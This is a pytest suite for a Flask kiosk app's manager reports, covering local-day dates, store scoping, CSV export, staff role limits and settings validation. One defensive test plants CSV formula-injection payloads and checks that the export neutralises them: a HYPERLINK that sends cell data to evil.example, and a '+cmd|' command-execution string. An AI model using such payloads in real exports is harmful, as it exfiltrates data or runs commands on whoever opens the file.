"""The manager's reports over HTTP: store-local days, scope, CSV, staff rules, query counts."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from types import SimpleNamespace

import pytest
from flask import Flask
from flask.testing import FlaskClient

from kiosk.extensions import db
from kiosk.models import AuditEvent, Device, Registration, Staff, Store, Swap
from kiosk.services import DomainError
from kiosk.services import staff as staff_service
from tests import factories as make
from tests.conftest import csrf_from

DAY = date(2026, 3, 10)


def add_swaps(store: Store, seller: Staff, at: list[datetime], local_days: list[date]) -> None:
    """Swaps written the fast way, as the data a report reads."""
    model = make.product("device", name=f"Model for {store.code}")
    now = datetime(2026, 1, 1, tzinfo=UTC)
    start = (Device.select().count() or 0) + 1
    devices = [
        {
            "serial": f"{store.code}X{start + i:07d}",
            "product": model,
            "store": store,
            "status": "replaced_out",
            "received_at": now,
        }
        for i in range(2 * len(at))
    ]
    with db.atomic():
        Device.insert_many(devices).execute()
        units = list(Device.select().where(Device.product == model).order_by(Device.id))
        owner = make.customer()
        chains = [
            {
                "customer": owner,
                "store": store,
                "purchase_date": date(2026, 1, 1),
                "registration_date": date(2026, 1, 1),
                "source": "counter",
                "created_at": now,
            }
            for _ in at
        ]
        Registration.insert_many(chains).execute()
        regs = list(
            Registration.select().where(Registration.store == store).order_by(Registration.id)
        )[-len(at) :]
        Swap.insert_many(
            [
                {
                    "store": store,
                    "staff": seller,
                    "registration": reg,
                    "old_device": units[2 * i],
                    "new_device": units[2 * i + 1],
                    "swap_case": "defect",
                    "outcome": "warranty",
                    "fault_code": "LED",
                    "created_at": moment,
                    "local_date": day,
                }
                for i, (reg, moment, day) in enumerate(zip(regs, at, local_days, strict=True))
            ]
        ).execute()


@pytest.fixture
def two_stores(shop):  # noqa: ANN201
    london = make.store(name="London", timezone="Europe/London", code="LON9")
    london_manager = make.staff(london, role="manager", username="lena", display_name="Lena")
    return SimpleNamespace(stockholm=shop.store, london=london, london_manager=london_manager)


def test_swap_at_2330_local_counts_on_the_local_day(client: FlaskClient, auth, shop, two_stores):
    # 23:30 in Stockholm on the 10th is 22:30 UTC on the 10th; 00:30 on the 11th is 23:30 UTC
    # on the 10th. The second one belongs to the 11th in the store, whatever UTC says.
    add_swaps(
        shop.store,
        shop.erik,
        [datetime(2026, 3, 10, 22, 30, tzinfo=UTC), datetime(2026, 3, 10, 23, 30, tzinfo=UTC)],
        [date(2026, 3, 10), date(2026, 3, 11)],
    )
    auth.sign_in("maja")
    tenth = client.get("/manager/?day=2026-03-10")
    eleventh = client.get("/manager/?day=2026-03-11")
    assert tenth.text.count("<tr>") - 1 == 1 and "23:30" in tenth.text
    assert eleventh.text.count("<tr>") - 1 == 1 and "00:30" in eleventh.text


def test_manager_sees_only_their_store_and_gets_403_for_another(client, auth, shop, two_stores):
    add_swaps(
        two_stores.london, two_stores.london_manager, [datetime(2026, 3, 10, 12, tzinfo=UTC)], [DAY]
    )
    auth.sign_in("maja")
    own = client.get(f"/manager/?day={DAY}")
    assert own.status_code == 200 and "LON9X" not in own.text
    other = two_stores.london.id
    assert client.get(f"/manager/?day={DAY}&store={other}").status_code == 403
    assert client.get(f"/manager/replacements.csv?day={DAY}&store={other}").status_code == 403
    assert client.get(f"/manager/replacements.csv?day={DAY}&store=all").status_code == 403


def test_admin_picks_any_store_or_all(client: FlaskClient, auth, shop, two_stores) -> None:
    make.staff(shop.store, role="admin", username="root", display_name="Root")
    add_swaps(
        two_stores.london, two_stores.london_manager, [datetime(2026, 3, 10, 12, tzinfo=UTC)], [DAY]
    )
    add_swaps(shop.store, shop.erik, [datetime(2026, 3, 10, 12, tzinfo=UTC)], [DAY])
    auth.sign_in("root")
    everything = client.get(f"/manager/?day={DAY}&store=all")
    assert "LON9X" in everything.text and f"{shop.store.code}X" in everything.text
    london = client.get(f"/manager/?day={DAY}&store={two_stores.london.id}")
    assert "LON9X" in london.text and f"{shop.store.code}X" not in london.text


def test_csv_has_a_header_and_exactly_the_rows_shown(client: FlaskClient, auth, shop):
    add_swaps(
        shop.store,
        shop.erik,
        [datetime(2026, 3, 10, h, tzinfo=UTC) for h in (9, 10, 11)],
        [DAY] * 3,
    )
    add_swaps(shop.store, shop.erik, [datetime(2026, 3, 11, 9, tzinfo=UTC)], [date(2026, 3, 11)])
    auth.sign_in("maja")
    response = client.get(f"/manager/replacements.csv?day={DAY}")
    assert response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"))))
    in_db = Swap.select().where((Swap.store == shop.store) & (Swap.local_date == DAY))
    assert len(rows) == in_db.count() == 3
    assert {r["date"] for r in rows} == {"2026-03-10"}
    assert sorted(r["old_serial"] for r in rows) == sorted(s.old_device.serial for s in in_db)


def test_bad_days_get_the_form_again_with_the_message_at_the_field(
    client: FlaskClient, auth, shop
) -> None:
    """Seen: a backwards range answered a bare 400 page that lost the chosen dates."""
    auth.sign_in("maja")
    bad = client.get("/manager/?day=2026-02-30")
    assert bad.status_code == 422 and "2026-11-25" in bad.text
    assert 'id="range-from-error"' in bad.text
    for page in ("/manager/", "/manager/sales"):
        backwards = client.get(f"{page}?from=2026-03-10&to=2026-03-01")
        assert backwards.status_code == 422, page
        html = backwards.text
        error_at = html.index('id="range-to-error"')
        assert "The range ends before it starts." in html[error_at : error_at + 200], page
        # The dates the manager chose are still in the form, the field marked invalid.
        assert 'name="from" value="2026-03-10"' in html and 'name="to" value="2026-03-01"' in html
        assert 'aria-invalid="true" aria-describedby="range-to-error"' in html
    # A download has no form to show a message at: a clear 400.
    assert client.get("/manager/sales.csv?from=2026-03-10&to=2026-03-01").status_code == 400


def _count_queries(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    seen: list[str] = []
    original = db.obj.execute_sql

    def counting(sql, *args, **kwargs):  # noqa: ANN001, ANN002, ANN003, ANN202
        seen.append(sql)
        return original(sql, *args, **kwargs)

    monkeypatch.setattr(db.obj, "execute_sql", counting)
    return seen


@pytest.mark.parametrize(
    "page", ["/manager/", "/manager/replacements.csv", "/manager/sales", "/manager/signals"]
)
def test_report_pages_run_the_same_number_of_queries_for_10_and_1000_swaps(
    app: Flask, client: FlaskClient, auth, shop, monkeypatch, page
) -> None:
    auth.sign_in("maja")
    counts = []
    for n in (10, 990):
        add_swaps(shop.store, shop.erik, [datetime(2026, 3, 10, 12, tzinfo=UTC)] * n, [DAY] * n)
        seen = _count_queries(monkeypatch)
        response = client.get(f"{page}?day={DAY}")
        assert response.status_code == 200
        counts.append(len(seen))
        monkeypatch.undo()
    assert Swap.select().count() == 1000
    assert counts[0] == counts[1]


def test_staff_management_is_audited_and_bounded_by_role(client, auth, shop, two_stores):
    auth.sign_in("maja")
    page = client.get("/manager/staff")
    token = csrf_from(page.text)
    created = client.post(
        "/manager/staff",
        data={
            "csrf_token": token,
            "display_name": "Nora",
            "username": "nora",
            "role": "staff",
            "password": "long enough",
            "pin": "4545",
        },
    )
    assert created.status_code == 302
    nora = Staff.get(Staff.username == "nora")
    assert nora.store_id == shop.store.id
    taken = client.post(
        "/manager/staff",
        data={
            "csrf_token": token,
            "display_name": "Nils",
            "username": "nils",
            "role": "staff",
            "password": "long enough",
            "pin": "2222",
        },
    )
    assert taken.status_code == 409 and "already has that PIN" in taken.text
    above = client.post(
        f"/manager/staff/{nora.id}/role", data={"csrf_token": token, "role": "admin"}
    )
    assert above.status_code == 403 and Staff.get_by_id(nora.id).role == "staff"
    assert (
        client.post(
            f"/manager/staff/{nora.id}/role", data={"csrf_token": token, "role": "manager"}
        ).status_code
        == 302
    )
    assert Staff.get_by_id(nora.id).role == "manager"
    assert (
        client.post(
            f"/manager/staff/{nora.id}/pin", data={"csrf_token": token, "pin": "7777"}
        ).status_code
        == 302
    )
    assert (
        client.post(f"/manager/staff/{nora.id}/deactivate", data={"csrf_token": token}).status_code
        == 302
    )
    assert not Staff.get_by_id(nora.id).is_active
    other = two_stores.london_manager.id
    assert (
        client.post(f"/manager/staff/{other}/deactivate", data={"csrf_token": token}).status_code
        == 403
    )
    assert Staff.get_by_id(other).is_active
    changes = ["staff.created", "staff.role_changed", "staff.pin_reset", "staff.deactivated"]
    audited = AuditEvent.select().where(AuditEvent.action.in_(changes)).order_by(AuditEvent.id)
    assert [(e.action, e.subject_id, e.staff_id) for e in audited] == [
        (action, nora.id, shop.manager.id) for action in changes
    ]


def test_a_manager_can_neither_make_nor_manage_anyone_above_them(client, auth, shop) -> None:
    boss = make.staff(shop.store, role="admin", pin="9090", username="ada", display_name="Ada")
    auth.sign_in("maja")
    page = client.get("/manager/staff")
    # The form offers the roles a manager may give, and no action on the admin's row.
    assert '<option value="admin"' not in page.text
    assert f"/manager/staff/{boss.id}/pin" not in page.text
    token = csrf_from(page.text)
    new_admin = {
        "csrf_token": token,
        "display_name": "Mallory",
        "username": "mallory",
        "role": "admin",
        "password": "long enough",
        "pin": "4646",
    }
    refused = client.post("/manager/staff", data=new_admin)
    assert refused.status_code == 422 and "Not a valid choice" in refused.text
    assert not Staff.select().where(Staff.username == "mallory").exists()
    # Posted straight at the service's rules, the answer is the same: no admin made by a manager.
    with pytest.raises(DomainError) as raised:
        staff_service.create_staff(
            shop.store,
            username="mallory",
            display_name="Mallory",
            role="admin",
            password="long enough",
            pin="4646",
            by=shop.manager,
        )
    assert raised.value.status == 403 and raised.value.field == "role"
    # The admin's PIN, role and account are out of a manager's reach, even in the same store.
    for action, data in (("pin", {"pin": "1212"}), ("role", {"role": "staff"}), ("deactivate", {})):
        url = f"/manager/staff/{boss.id}/{action}"
        assert client.post(url, data=data | {"csrf_token": token}).status_code == 403, action
    boss = Staff.get_by_id(boss.id)
    assert boss.role == "admin" and boss.is_active and boss.failed_pin_attempts == 0
    assert auth.enter_pin(boss.id, "1212").status_code != 302  # the old PIN still holds
    assert not AuditEvent.select().where(AuditEvent.subject_id == boss.id).exists()


def test_store_settings_validate_and_are_audited(client: FlaskClient, auth, shop) -> None:
    auth.sign_in("maja")
    token = csrf_from(client.get("/manager/settings").text)
    base = {
        "csrf_token": token,
        "name": "Kiosk Sundsvall",
        "timezone": "Europe/Stockholm",
        "language": "sv",
        "legal_age": "18",
        "challenge_age": "",
        "idle_lock_seconds": "120",
        "claim_token_days": "30",
        "refusal_retention_days": "365",
    }
    bad_zone = client.post("/manager/settings", data=base | {"timezone": "Mars/Olympus"})
    assert bad_zone.status_code == 422 and "Unknown time zone" in bad_zone.text
    too_young = client.post("/manager/settings", data=base | {"legal_age": "12"})
    assert too_young.status_code == 422
    for kept in ("0", "-5", "99999", ""):
        refused = client.post("/manager/settings", data=base | {"refusal_retention_days": kept})
        assert refused.status_code == 422 and 'id="refusal_retention_days-error"' in refused.text
    assert Store.get_by_id(shop.store.id).refusal_retention_days == 730  # the default, untouched
    assert client.post("/manager/settings", data=base).status_code == 302
    store = Store.get_by_id(shop.store.id)
    assert (store.name, store.language, store.idle_lock_seconds) == ("Kiosk Sundsvall", "sv", 120)
    assert store.refusal_retention_days == 365
    assert AuditEvent.select().where(AuditEvent.action == "store.settings_changed").count() == 1


def test_plain_staff_get_403_on_every_manager_page(client: FlaskClient, auth, shop) -> None:
    auth.sign_in("erik")
    for url in (
        "/manager/",
        "/manager/replacements.csv",
        "/manager/sales",
        "/manager/signals",
        "/manager/staff",
        "/manager/settings",
    ):
        assert client.get(url).status_code == 403, url


def test_one_utc_instant_is_two_local_days_in_two_stores(client, auth, shop, two_stores) -> None:
    # 23:30 UTC on 10 March: still the 10th in London, already the 11th in Stockholm.
    instant = datetime(2026, 3, 10, 23, 30, tzinfo=UTC)
    add_swaps(two_stores.london, two_stores.london_manager, [instant], [date(2026, 3, 10)])
    add_swaps(shop.store, shop.erik, [instant], [date(2026, 3, 11)])
    make.staff(shop.store, role="admin", username="root", display_name="Root")
    auth.sign_in("root")
    london, stockholm = two_stores.london.id, shop.store.id
    assert "23:30" in client.get(f"/manager/?day=2026-03-10&store={london}").text
    assert "00:30" in client.get(f"/manager/?day=2026-03-11&store={stockholm}").text
    assert "<tbody>" not in client.get(f"/manager/?day=2026-03-10&store={stockholm}").text
    assert "<tbody>" not in client.get(f"/manager/?day=2026-03-11&store={london}").text


def test_admins_all_stores_csv_carries_no_live_formula_and_one_charset(client, auth, shop):
    # A manager names their store and a colleague so that a spreadsheet would run them; the
    # admin exports every store and opens the file.
    evil = make.store(name='=HYPERLINK("http://evil.example/?"&A1,"Click")', code="EVL1")
    seller = make.staff(evil, display_name="+cmd|' /C calc'!A0", username="plus")
    add_swaps(evil, seller, [datetime(2026, 3, 10, 12, tzinfo=UTC)], [DAY])
    Swap.update(fault_code="@SUM(1+1)").execute()
    make.staff(shop.store, role="admin", username="root", display_name="-2+3")
    auth.sign_in("root")

    response = client.get(f"/manager/replacements.csv?day={DAY}&store=all")

    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert len(rows) == 1
    row = rows[0]
    assert row["store"] == "'" + evil.name
    assert row["staff"] == "'+cmd|' /C calc'!A0"
    assert row["fault_code"] == "'@SUM(1+1)"
    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_every_csv_cell_that_starts_like_a_formula_is_made_plain_text() -> None:
    from kiosk.csv_export import neutralise

    for cell in ("=1+2", "+1", "-1+2", "@A1", "\t=1", "\r=1"):
        assert neutralise(cell) == "'" + cell
    # Numbers stay numbers (a refund is never text), and ordinary text is left alone.
    assert neutralise(-100) == -100
    assert neutralise("Kiosk Soho") == "Kiosk Soho"
    assert neutralise("") == ""


def test_a_managers_challenge_age_must_be_above_the_stores_legal_age(
    client: FlaskClient, auth, shop
) -> None:
    """The admin's store form refused it; the manager's settings page saved it."""
    auth.sign_in("maja")
    token = csrf_from(client.get("/manager/settings").text)
    base = {
        "csrf_token": token,
        "name": shop.store.name,
        "timezone": "Europe/Stockholm",
        "language": "sv",
        "legal_age": "20",
        "idle_lock_seconds": "300",
        "claim_token_days": "30",
        "refusal_retention_days": "730",
    }
    for challenge in ("18", "20"):
        refused = client.post("/manager/settings", data=base | {"challenge_age": challenge})
        assert refused.status_code == 422 and 'id="challenge_age-error"' in refused.text
    store = Store.get_by_id(shop.store.id)
    assert (store.legal_age, store.challenge_age) == (18, None)
    assert client.post("/manager/settings", data=base | {"challenge_age": "25"}).status_code == 302
    store = Store.get_by_id(shop.store.id)
    assert (store.legal_age, store.challenge_age) == (20, 25)
